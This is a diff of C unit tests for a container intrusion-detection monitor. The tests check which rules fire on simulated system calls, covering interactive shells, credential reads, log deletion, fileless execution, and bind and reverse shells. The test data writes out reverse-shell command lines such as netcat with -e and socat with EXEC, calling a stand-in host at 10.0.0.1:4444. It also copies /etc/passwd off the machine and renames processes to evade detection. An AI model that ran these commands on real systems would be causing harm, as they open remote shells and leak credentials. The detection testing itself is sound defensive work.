@@ -143,16 +143,95 @@ static struct built *build(const struct ev_spec *s)
 #define DASH "/usr/bin/dash"
 #define ENTRY_SH PI("sh", DASH, 1000, ENTRY)
 
-/* the container's entrypoint: a shell script */
+/* the container's entrypoint: a shell script, without and with a terminal
+ * (docker run -it IMAGE sh) */
 static const struct proc p_entry_sh = { .self = ENTRY_SH };
-/* docker exec: the runtime exec'd the command */
+static const struct proc p_entry_sh_tty = { .self = ENTRY_SH, .tty = true, .tty_name = "pts/0" };
+/* docker exec: the runtime exec'd the command; -it gives it a terminal */
 static const struct proc p_exec_cat = { .self = PI("cat", "/usr/bin/cat", 501, EXECS) };
-/* programs */
+static const struct proc p_exec_sh = { .self = PI("sh", DASH, 500, EXECS) };
+static const struct proc p_exec_bash_tty = {
+	.self = PI("bash", "/usr/bin/bash", 500, EXECS), .tty = true, .tty_name = "pts/0" };
+static const struct proc p_exec_bb_sh_tty = {
+	.self = PI("sh", "/bin/busybox", 500, EXECS), .tty = true, .tty_name = "pts/0" };
+static const struct proc p_exec_python_tty = {
+	.self = PI("python3", "/usr/bin/python3.11", 500, EXECS), .tty = true, .tty_name = "pts/0" };
+/* bash started in the terminal of an exec session's shell */
+static const struct proc p_nested_bash_tty = {
+	.self = PI("bash", "/usr/bin/bash", 502, 0), .anc = { PI("sh", DASH, 500, EXECS) },
+	.n_anc = 1, .tty = true, .tty_name = "pts/0" };
+/* a shell on a pty that python opened (pty.spawn), no terminal before */
+static const struct proc p_pty_sh = {
+	.self = PI("sh", DASH, 700, 0),
+	.anc = { PI("python3", "/usr/bin/python3.11", 699, 0), PI("sh", DASH, 698, 0) },
+	.n_anc = 2, .tty = true, .tty_name = "pts/3" };
+/* docker run --init -it IMAGE sh: tini (the entrypoint) starts the shell */
+static const struct proc p_tini_sh_tty = {
+	.self = PI("sh", DASH, 1001, 0), .anc = { PI("tini", "/usr/bin/tini", 1000, ENTRY) },
+	.n_anc = 1, .tty = true, .tty_name = "pts/0" };
+/* shells started by programs */
+static const struct proc p_java_sh = {
+	.self = PI("sh", DASH, 800, 0), .anc = { PI("java", "/opt/java/bin/java", 1000, ENTRY) },
+	.n_anc = 1 };
+static const struct proc p_java2_sh = {
+	.self = PI("sh", DASH, 800, 0),
+	.anc = { PI("java", "/opt/java/bin/java", 900, 0), PI("tini", "/usr/bin/tini", 1000, ENTRY) },
+	.n_anc = 2 };
+static const struct proc p_java_bb = {
+	.self = PI("sh", "/bin/busybox", 800, 0),
+	.anc = { PI("java", "/opt/java/bin/java", 900, 0) }, .n_anc = 1 };
 static const struct proc p_java_id = {
 	.self = PI("id", "/usr/bin/id", 800, 0), .anc = { PI("java", "/opt/java/bin/java", 900, 0) },
 	.n_anc = 1 };
+static const struct proc p_script_sh = {
+	.self = PI("sh", DASH, 801, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
+static const struct proc p_busybox_sh = {
+	.self = PI("sh", "/bin/busybox", 802, 0), .anc = { PI("httpd", "/bin/busybox", 1000, 0) },
+	.n_anc = 1 };
+static const struct proc p_cron_sh = {
+	.self = PI("sh", DASH, 803, 0), .anc = { PI("cron", "/usr/sbin/cron", 1000, ENTRY) },
+	.n_anc = 1 };
+static const struct proc p_dpkg_sh = {
+	.self = PI("sh", DASH, 804, 0),
+	.anc = { PI("dpkg", "/usr/bin/dpkg", 805, 0), PI("apt-get", "/usr/bin/apt-get", 806, 0) },
+	.n_anc = 2 };
+static const struct proc p_exec_child_sh = {
+	.self = PI("sh", DASH, 807, 0), .anc = { PI("python3", "/usr/bin/python3.11", 501, EXECS) },
+	.n_anc = 1 };
+/* programs */
+static const struct proc p_dpkg = {
+	.self = PI("dpkg", "/usr/bin/dpkg", 805, 0), .anc = { PI("apt-get", "/usr/bin/apt-get", 806, 0) },
+	.n_anc = 1 };
+static const struct proc p_pip = {
+	.self = PI("pip", "/usr/bin/python3.11", 808, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
 static const struct proc p_cat = {
 	.self = PI("cat", "/usr/bin/cat", 904, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
+static const struct proc p_logrotate = { .self = PI("logrotate", "/usr/sbin/logrotate", 903, 0) };
+static const struct proc p_sshd = { .self = PI("sshd", "/usr/sbin/sshd", 905, 0) };
+static const struct proc p_sudo = { .self = PI("sudo", "/usr/bin/sudo", 906, 0) };
+static const struct proc p_nc = {
+	.self = PI("nc", "/usr/bin/nc.openbsd", 907, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
+static const struct proc p_socat = { .self = PI("socat", "/usr/bin/socat", 908, 0) };
+static const struct proc p_bb_nc = {
+	.self = PI("nc", "/bin/busybox", 909, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
+static const struct proc p_nginx = { .self = PI("nginx", "/usr/sbin/nginx", 1000, ENTRY) };
+static const struct proc p_bb_httpd = {
+	.self = PI("httpd", "/bin/busybox", 1001, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
+static const struct proc p_python_srv = {
+	.self = PI("python3", "/usr/bin/python3.11", 1002, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
+static const struct proc p_bb_wget = {
+	.self = PI("wget", "/bin/busybox", 1003, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
+static const struct proc p_bash = {
+	.self = PI("bash", "/usr/bin/bash", 910, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
+/* names that lie: comm is whatever the process set (prctl, /proc/self/comm) */
+static const struct proc p_bash_named_curl = { .self = PI("curl", "/usr/bin/bash", 911, 0) };
+static const struct proc p_curl_named_bash = { .self = PI("bash", "/usr/bin/curl", 912, 0) };
+static const struct proc p_named_runc = {
+	.self = PI("runc:[2:INIT]", "/tmp/evil", 913, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
+static const struct proc p_named_logrotate = { .self = PI("logrotate", "/bin/busybox", 914, 0) };
+static const struct proc p_named_sshd = { .self = PI("sshd", "/usr/bin/cat", 915, 0) };
+static const struct proc p_named_sudo = { .self = PI("sudo", "/usr/bin/cat", 916, 0) };
+static const struct proc p_python_named_nc = { .self = PI("nc", "/usr/bin/python3.11", 917, 0) };
 
 /* ---- the default rule set ---- */
 
@@ -167,16 +246,87 @@ struct rule_case {
 #define WR (O_WRONLY | O_CREAT | O_TRUNC)
 
 static const struct rule_case cases[] = {
-	FIRE("shell_in_container", "execve", .path = "/bin/sh", .extra = "sh -c id"),
-	FIRE("shell_in_container", "execve", .path = "/usr/bin/bash", .extra = "bash"),
-	QUIET("shell_in_container", "execve", .path = "/bin/sh", .extra = "sh -c id", .host = true),
-	QUIET("shell_in_container", "execve", .path = "/usr/bin/python3", .extra = "python3 -c 1"),
+	/* docker exec -it bash; a pty python opened for a shell; busybox's sh */
+	FIRE("terminal_shell_in_container", "execve", .path = "/usr/bin/bash", .extra = "bash",
+	     .proc = &p_exec_bash_tty),
+	FIRE("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh -i",
+	     .proc = &p_pty_sh),
+	FIRE("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh",
+	     .proc = &p_exec_bb_sh_tty),
+	/* renamed: comm says python, the file executed is bash */
+	FIRE("terminal_shell_in_container", "execve", .path = "/usr/local/bin/py",
+	     .exe = "/usr/bin/bash", .extra = "py", .comm = "python3", .proc = &p_exec_bash_tty),
+	/* the entrypoint (docker run -it IMAGE sh), tini starting it at start-up */
+	QUIET("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh",
+	      .proc = &p_entry_sh_tty),
+	QUIET("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh",
+	      .proc = &p_tini_sh_tty, AGE(1)),
+	/* no terminal: docker exec c sh -c ..., the entrypoint script */
+	QUIET("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh -c id",
+	      .proc = &p_exec_sh),
+	QUIET("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh /run.sh",
+	      .proc = &p_entry_sh),
+	/* a shell from the session's shell: the session already alerted */
+	QUIET("terminal_shell_in_container", "execve", .path = "/usr/bin/bash", .extra = "bash",
+	      .proc = &p_nested_bash_tty),
+	/* not a shell; an unknown process (no tty known); the host */
+	QUIET("terminal_shell_in_container", "execve", .path = "/usr/bin/python3",
+	      .extra = "python3", .proc = &p_exec_python_tty),
+	QUIET("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh -c id"),
+	QUIET("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh",
+	      .proc = &p_exec_bash_tty, .host = true),
+	/* a server starting a shell, after start-up; a java that is not the
+	 * entrypoint, even at start-up; busybox's sh by argv[0], as "busybox
+	 * sh", or as a renamed copy of busybox */
+	FIRE("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c id",
+	     .proc = &p_java_sh, AGE(300)),
+	FIRE("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c id",
+	     .proc = &p_java2_sh, AGE(5)),
+	FIRE("shell_spawned_by_program", "execve", .path = "/bin/busybox", .extra = "sh -c id",
+	     .proc = &p_java_bb),
+	FIRE("shell_spawned_by_program", "execve", .path = "/bin/busybox",
+	     .extra = "busybox sh -c id", .proc = &p_java_bb),
+	FIRE("shell_spawned_by_program", "execve", .path = "/usr/local/bin/bb",
+	     .exe = "/usr/local/bin/bb", .extra = "sh -c id", .proc = &p_java_bb),
+	/* the entrypoint's start-up; scripts; busybox parents; cron; a
+	 * maintainer script under dpkg; an exec session or its command; the
+	 * entrypoint shell; an unknown parent; not a shell */
+	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c id",
+	      .proc = &p_java_sh, AGE(5)),
+	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh x.sh",
+	      .proc = &p_script_sh, AGE(300)),
+	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c id",
+	      .proc = &p_busybox_sh, AGE(300)),
+	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c job",
+	      .proc = &p_cron_sh, AGE(300)),
+	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh postinst",
+	      .proc = &p_dpkg_sh, AGE(300)),
+	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c make",
+	      .proc = &p_exec_child_sh, AGE(300)),
+	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh",
+	      .proc = &p_exec_sh, AGE(300)),
+	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh /run.sh",
+	      .proc = &p_entry_sh, AGE(0)),
+	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c id",
+	      AGE(300)),
+	QUIET("shell_spawned_by_program", "execve", .path = "/usr/bin/id", .extra = "id",
+	      .proc = &p_java_id, AGE(300)),
 	FIRE("package_manager_in_container", "execve", .path = "/usr/bin/apt-get",
 	     .extra = "apt-get install nmap"),
 	FIRE("package_manager_in_container", "execve", .path = "/sbin/apk",
 	     .extra = "apk add curl"),
+	/* pip is a script: the file executed is python, the name asked pip */
+	FIRE("package_manager_in_container", "execve", .path = "/usr/bin/pip",
+	     .extra = "pip install requests", .proc = &p_pip),
 	QUIET("package_manager_in_container", "execve", .path = "/usr/bin/dpkg-query",
 	      .extra = "dpkg-query -l"),
+	/* dpkg run by apt-get: apt-get alerted */
+	QUIET("package_manager_in_container", "execve", .path = "/usr/bin/dpkg",
+	      .extra = "dpkg --unpack x.deb", .proc = &p_dpkg),
+	FIRE("remote_file_copy_tool", "execve", .path = "/usr/bin/rsync",
+	     .extra = "rsync -a /data backup:/x"),
+	FIRE("remote_file_copy_tool", "execve", .path = "/usr/bin/scp", .extra = "scp /etc/passwd h:"),
+	QUIET("remote_file_copy_tool", "execve", .path = "/bin/cp", .extra = "cp /data /backup"),
 	FIRE("drift_exec_from_scratch_dir", "execve", .path = "/tmp/payload", .extra = "payload"),
 	FIRE("drift_exec_from_scratch_dir", "execve", .path = "/dev/shm/x", .extra = "x"),
 	QUIET("drift_exec_from_scratch_dir", "execve", .path = "/usr/bin/ls",
@@ -214,13 +364,27 @@ static const struct rule_case cases[] = {
 	FIRE("read_credential_files", "open", .path = "/etc/sudoers", .a = { 0, O_RDONLY }),
 	QUIET("read_credential_files", "openat", .path = "/etc/passwd", .a = { 0, 0, O_RDONLY }),
 	QUIET("read_credential_files", "openat", .path = "/etc/shadow", .host = true),
+	QUIET("read_credential_files", "openat", .path = "/etc/sudoers", .proc = &p_sudo),
+	FIRE("read_credential_files", "openat", .path = "/etc/sudoers", .comm = "sudo",
+	     .proc = &p_named_sudo),
 	FIRE("read_sudoers_dir", "openat", .path = "/etc/sudoers.d/admins"),
 	QUIET("read_sudoers_dir", "openat", .path = "/etc/sudo.conf"),
+	QUIET("read_sudoers_dir", "openat", .path = "/etc/sudoers.d/admins", .proc = &p_sudo),
 	FIRE("read_ssh_keys", "openat", .path = "/root/.ssh/id_rsa"),
 	FIRE("read_ssh_keys", "openat", .path = "/home/bob/.ssh/id_ed25519"),
 	FIRE("read_ssh_keys", "openat", .path = "/etc/ssh/ssh_host_rsa_key"),
 	QUIET("read_ssh_keys", "openat", .path = "/root/.ssh/id_rsa.pub"),
-	QUIET("read_ssh_keys", "openat", .path = "/etc/ssh/ssh_host_rsa_key", .comm = "sshd"),
+	QUIET("read_ssh_keys", "openat", .path = "/etc/ssh/ssh_host_rsa_key", .proc = &p_sshd),
+	FIRE("read_ssh_keys", "openat", .path = "/etc/ssh/ssh_host_rsa_key", .comm = "sshd",
+	     .proc = &p_named_sshd),
+	FIRE("symlink_to_sensitive_file", "symlink", .path = "/tmp/s", .extra = "/etc/shadow"),
+	FIRE("symlink_to_sensitive_file", "symlinkat", .path = "/var/www/r", .extra = "/"),
+	QUIET("symlink_to_sensitive_file", "symlink", .path = "/tmp/s", .extra = "/etc/hostname"),
+	QUIET("symlink_to_sensitive_file", "symlinkat", .path = "/tmp/s",
+	      .extra = "/etc/shadowsocks.json"),
+	FIRE("hardlink_to_sensitive_file", "link", .path = "/etc/shadow", .extra = "/tmp/h"),
+	FIRE("hardlink_to_sensitive_file", "linkat", .path = "/etc/gshadow", .extra = "/tmp/g"),
+	QUIET("hardlink_to_sensitive_file", "link", .path = "/etc/passwd", .extra = "/tmp/p"),
 	FIRE("read_proc_mem_or_environ", "openat", .path = "/proc/1/environ"),
 	FIRE("read_proc_mem_or_environ", "openat", .path = "/proc/4242/mem"),
 	QUIET("read_proc_mem_or_environ", "openat", .path = "/proc/self/environ"),
@@ -233,22 +397,40 @@ static const struct rule_case cases[] = {
 	QUIET("chmod_setuid", "mkdir", .path = "/tmp/d", .a = { 0, 04755 }),
 	FIRE("delete_logs", "unlink", .path = "/var/log/auth.log"),
 	FIRE("delete_logs", "truncate", .path = "/var/log/nginx/access.log"),
-	QUIET("delete_logs", "unlink", .path = "/var/log/auth.log.1", .comm = "logrotate"),
+	QUIET("delete_logs", "unlink", .path = "/var/log/auth.log.1", .proc = &p_logrotate),
+	/* comm logrotate, written to /proc/self/comm: no pass */
+	FIRE("delete_logs", "unlink", .path = "/var/log/auth.log.1", .comm = "logrotate",
+	     .proc = &p_named_logrotate),
 	QUIET("delete_logs", "unlink", .path = "/var/lib/app/x.log"),
 	FIRE("truncate_logs_on_open", "openat", .path = "/var/log/syslog", .a = { 0, 0, WR }),
 	QUIET("truncate_logs_on_open", "openat", .path = "/var/log/syslog",
 	      .a = { 0, 0, O_WRONLY | O_APPEND }),
+	QUIET("truncate_logs_on_open", "openat", .path = "/var/log/syslog", .a = { 0, 0, WR },
+	      .proc = &p_logrotate),
+	FIRE("truncate_logs_on_open", "openat", .path = "/var/log/syslog", .a = { 0, 0, WR },
+	     .comm = "logrotate", .proc = &p_named_logrotate),
 	FIRE("device_node_created", "mknodat", .path = "/dev/sda", .a = { [2] = 060660 }),
 	FIRE("device_node_created", "mknod", .path = "/dev/zero2", .a = { [1] = 020666 }),
 	QUIET("device_node_created", "mknodat", .path = "/dev/sda", .host = true,
 	      .a = { [2] = 060660 }),
 	QUIET("device_node_created", "mknodat", .path = "/tmp/fifo", .a = { [2] = 010644 }),
 	QUIET("device_node_created", "mknod", .path = "/tmp/f", .a = { [1] = 0100644 }),
+	/* runc creating /dev/null while it sets the container up */
+	QUIET("device_node_created", "mknodat", .path = "/dev/null", .a = { [2] = 020666 },
+	      .comm = "runc:[2:INIT]", .init = true),
 	FIRE("memfd_create", "memfd_create"),
 	QUIET("memfd_create", "memfd_create", .host = true),
 	FIRE("fileless_exec_proc_fd", "execve", .path = "/proc/self/fd/3", .extra = "x"),
 	FIRE("fileless_exec_proc_fd", "execve", .path = "/dev/fd/5", .extra = "x"),
+	/* the kernel resolved the fd to its file: path_arg is the spelling */
+	FIRE("fileless_exec_proc_fd", "execve", .path = "/bin/busybox", .exe = "/bin/busybox",
+	     .path_arg = "/proc/self/fd/3", .extra = "true"),
 	QUIET("fileless_exec_proc_fd", "execve", .path = "/usr/sbin/fdisk", .extra = "fdisk -l"),
+	FIRE("fileless_exec_memfd", "execve", .path = "/proc/self/fd/4",
+	     .exe = "/memfd:payload (deleted)", .extra = "x"),
+	FIRE("fileless_exec_memfd", "execve", .path = "/usr/local/bin/tool",
+	     .exe = "/memfd:x (deleted)", .extra = "tool"),
+	QUIET("fileless_exec_memfd", "execve", .path = "/usr/bin/memfd-tool", .extra = "memfd-tool"),
 	FIRE("fileless_execveat_fd", "execveat", .a = { 3, 0, 0, 0, 0x1000 }),
 	QUIET("fileless_execveat_fd", "execveat", .path = "/usr/bin/ls", .extra = "ls", .a = { 3 }),
 	FIRE("ptrace_attach", "ptrace", .a = { 16, 99 }),
@@ -262,8 +444,11 @@ static const struct rule_case cases[] = {
 	FIRE("bpf_in_container", "bpf", .a = { 5 }),
 	QUIET("bpf_in_container", "bpf", .a = { 5 }, .host = true),
 	FIRE("mount_in_container", "mount", .path = "/mnt", .extra = "tmpfs"),
-	QUIET("mount_in_container", "mount", .path = "/mnt", .extra = "tmpfs",
-	      .comm = "runc:[2:INIT]"),
+	QUIET("mount_in_container", "mount", .path = "/proc", .extra = "proc",
+	      .comm = "runc:[2:INIT]", .init = true),
+	/* named runc, but the workload: no pass */
+	FIRE("mount_in_container", "mount", .path = "/mnt", .extra = "tmpfs",
+	     .comm = "runc:[2:INIT]", .proc = &p_named_runc),
 	QUIET("mount_in_container", "umount2", .path = "/mnt"),
 	FIRE("sensitive_mount", "mount", .path = "/mnt/sock", .extra = "/var/run/docker.sock"),
 	FIRE("sensitive_mount", "mount", .path = "/host", .extra = "/dev/sda1"),
@@ -271,14 +456,19 @@ static const struct rule_case cases[] = {
 	FIRE("sensitive_mount", "mount", .path = "/mnt", .extra = "/proc/sys/kernel"),
 	QUIET("sensitive_mount", "mount", .path = "/mnt", .extra = "tmpfs"),
 	QUIET("sensitive_mount", "mount", .path = "/mnt", .extra = "/srv/data"),
+	QUIET("sensitive_mount", "mount", .path = "/sys", .extra = "/sys", .init = true),
 	FIRE("mount_on_proc_sys", "mount", .path = "/proc/sys", .extra = "proc"),
 	QUIET("mount_on_proc_sys", "mount", .path = "/proc/system-like", .extra = "proc"),
+	QUIET("mount_on_proc_sys", "mount", .path = "/proc/sys", .extra = "/proc/sys", .init = true),
 	FIRE("namespace_change", "unshare", .a = { 0x20000 }),
 	FIRE("namespace_change", "setns", .a = { 3 }),
-	QUIET("namespace_change", "setns", .a = { 3 }, .comm = "runc:[2:INIT]"),
+	QUIET("namespace_change", "setns", .a = { 3 }, .comm = "runc:[2:INIT]", .init = true),
+	FIRE("namespace_change", "setns", .a = { 3 }, .comm = "runc", .proc = &p_named_runc),
 	FIRE("root_change", "chroot", .path = "/host"),
 	FIRE("root_change", "pivot_root", .path = "/newroot", .extra = "/newroot/old"),
-	QUIET("root_change", "chroot", .path = "/host", .comm = "runc"),
+	QUIET("root_change", "pivot_root", .path = "/var/lib/docker/overlay2/x/merged",
+	      .extra = "/var/lib/docker/overlay2/x/merged", .comm = "runc:[2:INIT]", .init = true),
+	FIRE("root_change", "chroot", .path = "/host", .comm = "runc", .proc = &p_named_runc),
 	FIRE("setuid_root", "setuid", .uid = 1000, .a = { 0 }),
 	FIRE("setuid_root", "setresgid", .uid = 33, .a = { 0, 0, 0 }),
 	QUIET("setuid_root", "setuid", .uid = 0, .a = { 0 }),
@@ -286,9 +476,11 @@ static const struct rule_case cases[] = {
 	FIRE("setuid_root_effective", "setresuid", .uid = 1000, .a = { -1ULL, 0, -1ULL }),
 	QUIET("setuid_root_effective", "setresuid", .uid = 1000, .a = { -1ULL, 1000, -1ULL }),
 	FIRE("capset_in_container", "capset"),
-	QUIET("capset_in_container", "capset", .comm = "runc:[2:INIT]"),
+	QUIET("capset_in_container", "capset", .comm = "runc:[2:INIT]", .init = true),
+	FIRE("capset_in_container", "capset", .comm = "runc:[2:INIT]", .proc = &p_named_runc),
 	FIRE("sethostname_in_container", "sethostname"),
 	QUIET("sethostname_in_container", "sethostname", .host = true),
+	QUIET("sethostname_in_container", "sethostname", .comm = "runc:[2:INIT]", .init = true),
 	FIRE("outbound_connect_unexpected_port", "connect", .ip = "203.0.113.5", .port = 6667),
 	FIRE("outbound_connect_unexpected_port", "connect", .ip = "2001:db8::1", .port = 22),
 	QUIET("outbound_connect_unexpected_port", "connect", .ip = "203.0.113.5", .port = 443),
@@ -301,16 +493,32 @@ static const struct rule_case cases[] = {
 	FIRE("crypto_miner_port_connect", "connect", .ip = "198.51.100.7", .port = 3333),
 	FIRE("crypto_miner_port_connect", "connect", .ip = "198.51.100.7", .port = 45700),
 	QUIET("crypto_miner_port_connect", "connect", .ip = "198.51.100.7", .port = 3334),
-	FIRE("listening_socket", "listen", .a = { 3, 128 }),
-	QUIET("listening_socket", "listen", .a = { 3, 128 }, .host = true),
-	FIRE("bind_inet_port", "bind", .ip = "0.0.0.0", .port = 8080),
-	QUIET("bind_inet_port", "bind", .ip = "0.0.0.0", .port = 0),
-	FIRE("reverse_shell_connect", "connect", .comm = "bash", .ip = "10.0.0.1", .port = 4444),
-	QUIET("reverse_shell_connect", "connect", .comm = "curl", .ip = "10.0.0.1", .port = 4444),
+	FIRE("bind_shell_listener", "bind", .ip = "0.0.0.0", .port = 4444, .proc = &p_nc),
+	FIRE("bind_shell_listener", "bind", .ip = "::", .port = 31337, .proc = &p_socat),
+	/* netcat on loopback, an ordinary server, a python named nc, an
+	 * unknown process, busybox's nc (not told from its httpd) */
+	QUIET("bind_shell_listener", "bind", .ip = "127.0.0.1", .port = 4444, .proc = &p_nc),
+	QUIET("bind_shell_listener", "bind", .ip = "0.0.0.0", .port = 80, .proc = &p_nginx),
+	QUIET("bind_shell_listener", "bind", .ip = "0.0.0.0", .port = 4444, .comm = "nc",
+	      .proc = &p_python_named_nc),
+	QUIET("bind_shell_listener", "bind", .ip = "0.0.0.0", .port = 4444, .comm = "nc"),
+	QUIET("bind_shell_listener", "bind", .ip = "0.0.0.0", .port = 4444, .proc = &p_bb_nc),
+	/* bash renamed curl is still bash; curl renamed bash is not */
+	FIRE("reverse_shell_connect", "connect", .comm = "curl", .ip = "10.0.0.1", .port = 4444,
+	     .proc = &p_bash_named_curl),
+	FIRE("reverse_shell_connect", "connect", .ip = "2001:db8::1", .port = 443,
+	     .proc = &p_bash),
+	QUIET("reverse_shell_connect", "connect", .comm = "bash", .ip = "10.0.0.1", .port = 4444,
+	      .proc = &p_curl_named_bash),
+	QUIET("reverse_shell_connect", "connect", .ip = "127.0.0.1", .port = 8080,
+	      .proc = &p_bash),
 	FIRE("netcat_remote_shell", "execve", .path = "/usr/bin/nc",
 	     .extra = "nc -e /bin/sh 10.0.0.1 4444"),
 	FIRE("netcat_remote_shell", "execve", .path = "/usr/bin/ncat",
 	     .extra = "ncat 10.0.0.1 4444 --sh-exec sh"),
+	/* busybox's nc: the file executed is busybox */
+	FIRE("netcat_remote_shell", "execve", .path = "/usr/bin/nc", .exe = "/bin/busybox",
+	     .extra = "nc -e /bin/sh 10.0.0.1 4444", .proc = &p_bb_nc),
 	QUIET("netcat_remote_shell", "execve", .path = "/usr/bin/nc", .extra = "nc -z db 5432"),
 	FIRE("socat_remote_shell", "execve", .path = "/usr/bin/socat",
 	     .extra = "socat TCP:10.0.0.1:4444 EXEC:/bin/bash"),
@@ -560,22 +768,125 @@ static void test_default_kernel_specs(void **state)
 static void test_render(void **state)
 {
 	const struct rule_set *rs = *state;
-	struct ev_spec sp = { .sc = "execve", .path = "/bin/sh", .extra = "sh -c id" };
+	struct ev_spec sp = { .sc = "execve", .path = "/bin/bash", .extra = "bash -i",
+		.proc = &p_exec_bash_tty };
 	struct ev_spec op = { .sc = "openat", .path = "/etc/cron.d/job",
-		.a = { 0, 0, O_WRONLY | O_CREAT } };
+		.a = { 0, 0, O_WRONLY | O_CREAT }, .proc = &p_cat };
+	struct ev_spec jp = { .sc = "execve", .path = "/bin/sh", .extra = "sh -c id",
+		.proc = &p_java_sh, AGE(300) };
 	struct built *b = build(&sp);
 	char buf[256];
 
-	rule_render(find(rs, "shell_in_container"), &b->v, buf, sizeof(buf));
-	assert_string_equal(buf, "shell /bin/sh started in web by app (pid 7, argv sh -c id)");
-	rule_render(find(rs, "shell_in_container"), &b->v, buf, 12);
-	assert_string_equal(buf, "shell /bin/"); /* truncated, NUL terminated */
+	rule_render(find(rs, "terminal_shell_in_container"), &b->v, buf, sizeof(buf));
+	assert_string_equal(buf, "terminal shell /usr/bin/bash on pts/0 in web (argv bash -i)");
+	rule_render(find(rs, "terminal_shell_in_container"), &b->v, buf, 12);
+	assert_string_equal(buf, "terminal sh"); /* truncated, NUL terminated */
 	free(b);
 	b = build(&op);
 	rule_render(find(rs, "write_below_etc"), &b->v, buf, sizeof(buf));
 	assert_string_equal(buf,
-		"app opened /etc/cron.d/job for writing (O_WRONLY|O_CREAT) in web");
+		"/usr/bin/cat opened /etc/cron.d/job for writing (O_WRONLY|O_CREAT) in web");
 	free(b);
+	b = build(&jp);
+	rule_render(find(rs, "shell_spawned_by_program"), &b->v, buf, sizeof(buf));
+	assert_string_equal(buf, "shell /usr/bin/dash started in web by /opt/java/bin/java "
+				 "(java, pid 1000; argv sh -c id)");
+	free(b);
+}
+
+/* Normal container life, as the monitor sees it with the process table:
+ * no default rule fires on any of it. */
+static const struct ev_spec normal_life[] = {
+	/* the runtime's set-up (runc init): device nodes, mounts, pivot_root,
+	 * hostname, capabilities, namespaces; comm runc:[2:INIT] */
+	{ .sc = "mknodat", .path = "/dev/null", .a = { [2] = 020666 }, .init = true,
+	  .comm = "runc:[2:INIT]" },
+	{ .sc = "mknodat", .path = "/dev/zero", .a = { [2] = 020666 }, .init = true,
+	  .comm = "runc:[2:INIT]" },
+	{ .sc = "mount", .path = "/proc", .extra = "proc", .init = true, .comm = "runc:[2:INIT]" },
+	{ .sc = "mount", .path = "/sys", .extra = "sysfs", .init = true, .comm = "runc:[2:INIT]" },
+	{ .sc = "mount", .path = "/proc/sys", .extra = "/proc/sys", .init = true,
+	  .comm = "runc:[2:INIT]" },
+	{ .sc = "mount", .path = "/etc/hosts", .extra = "/var/lib/docker/containers/x/hosts",
+	  .init = true, .comm = "runc:[2:INIT]" },
+	{ .sc = "pivot_root", .path = "/var/lib/docker/overlay2/x/merged",
+	  .extra = "/var/lib/docker/overlay2/x/merged", .init = true, .comm = "runc:[2:INIT]" },
+	{ .sc = "sethostname", .init = true, .comm = "runc:[2:INIT]" },
+	{ .sc = "capset", .init = true, .comm = "runc:[2:INIT]" },
+	{ .sc = "setns", .a = { 5, 0x20000 }, .init = true, .comm = "runc:[2:INIT]" },
+	{ .sc = "unshare", .a = { 0x20000 }, .init = true, .comm = "runc:[1:CHILD]" },
+	{ .sc = "openat", .path = "/etc/hostname", .a = { 0, 0, WR }, .init = true,
+	  .comm = "runc:[2:INIT]" },
+	/* the entrypoint: a shell script, exec'd by the runtime */
+	{ .sc = "execve", .path = "/bin/sh", .extra = "sh /entrypoint.sh", .proc = &p_entry_sh,
+	  AGE(0) },
+	{ .sc = "openat", .path = "/entrypoint.sh", .proc = &p_entry_sh, AGE(0) },
+	/* ... that starts servers on loopback (busybox httpd, python) and an
+	 * ordinary server on every address (nginx) */
+	{ .sc = "execve", .path = "/bin/httpd", .extra = "httpd -f -p 127.0.0.1:8080",
+	  .proc = &p_bb_httpd, AGE(0) },
+	{ .sc = "bind", .ip = "127.0.0.1", .port = 8080, .proc = &p_bb_httpd, AGE(0) },
+	{ .sc = "listen", .a = { 3, 128 }, .proc = &p_bb_httpd, AGE(0) },
+	{ .sc = "accept", .ip = "127.0.0.1", .port = 40312, .proc = &p_bb_httpd, AGE(1) },
+	{ .sc = "execve", .path = "/usr/bin/python3",
+	  .extra = "python3 -m http.server --bind 127.0.0.1 8000", .proc = &p_python_srv, AGE(0) },
+	{ .sc = "bind", .ip = "127.0.0.1", .port = 8000, .proc = &p_python_srv, AGE(0) },
+	{ .sc = "listen", .a = { 3, 5 }, .proc = &p_python_srv, AGE(0) },
+	{ .sc = "bind", .ip = "0.0.0.0", .port = 80, .proc = &p_nginx, AGE(0) },
+	{ .sc = "bind", .ip = "::", .port = 80, .proc = &p_nginx, AGE(0) },
+	{ .sc = "listen", .a = { 6, 511 }, .proc = &p_nginx, AGE(0) },
+	{ .sc = "openat", .path = "/etc/passwd", .proc = &p_nginx, AGE(0) },
+	/* ... and talks to them */
+	{ .sc = "execve", .path = "/bin/wget", .extra = "wget -q -O- http://127.0.0.1:8080/",
+	  .proc = &p_bb_wget, AGE(2) },
+	{ .sc = "connect", .ip = "127.0.0.1", .port = 8080, .proc = &p_bb_wget, AGE(2) },
